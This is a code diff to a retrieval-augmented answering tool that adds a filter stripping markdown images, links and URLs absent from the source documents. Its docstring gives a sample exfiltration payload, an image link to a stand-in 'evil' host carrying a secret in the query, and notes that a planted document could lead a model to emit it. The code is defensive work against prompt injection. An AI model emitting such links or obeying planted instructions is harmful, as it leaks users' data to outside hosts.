@@ -22,6 +22,8 @@ MIN_SUPPORT = 0.5  # at least half of a sentence's content words must be in the 
 KEEP_MARGIN = 0.15  # keep the model's own [n] unless another source is this much better
 UNSUPPORTED = "(not found in the sources)"
 
+_MD_LINK = re.compile(r"(!?)\[([^\]]*)\]\(([^)\s]*)[^)]*\)")
+_BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript):[^\s)\]]+", re.IGNORECASE)
 _MARKER = re.compile(r"\s*\[(\d+(?:\s*,\s*\d+)*)\]")
 _ANSWER_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
 
@@ -45,6 +47,25 @@ def best_span(sentence_tokens: set[str], text: str) -> Span:
         if score > best.score + 1e-9:
             best = Span(score, s, e)
     return best
+
+
+def strip_foreign_links(answer: str, hits: list[Hit]) -> str:
+    """Remove markdown images, links and URLs that appear in no source.
+
+    A document (or a model led on by one) can plant `![](https://evil/?q=secret)`;
+    rendered in a browser that would fetch the URL. Links the sources contain stay,
+    as plain text.
+    """
+    sources = " ".join(h.chunk.text for h in hits)
+
+    def link(m: re.Match) -> str:
+        image, label, url = m.groups()
+        if url and url in sources:
+            return f"{label} ({url})" if label else url
+        return "" if image else label
+
+    text = _MD_LINK.sub(link, answer)
+    return _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in sources else "", text)
 
 
 def split_answer(text: str) -> list[tuple[str, list[int]]]:
